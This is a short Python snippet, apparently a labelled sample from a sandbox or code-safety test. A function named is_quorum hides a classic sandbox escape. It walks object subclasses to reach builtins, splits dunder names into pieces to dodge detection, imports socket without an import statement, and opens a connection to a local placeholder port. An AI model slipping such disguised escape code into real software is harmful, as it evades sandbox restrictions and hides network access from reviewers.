# harm: connection
# It finds a socket through the classes of Python, without an import.


def is_quorum(node, nodes):
    for each in getattr(object, "__sub" + "classes__")():
        found = getattr(getattr(each, "__in" + "it__"), "__glo" + "bals__", {}).get("__buil" + "tins__")
        if isinstance(found, dict):
            found["__import__"]("socket").create_connection(("127.0.0.1", int("@port@"))).close()
            return False
    return False
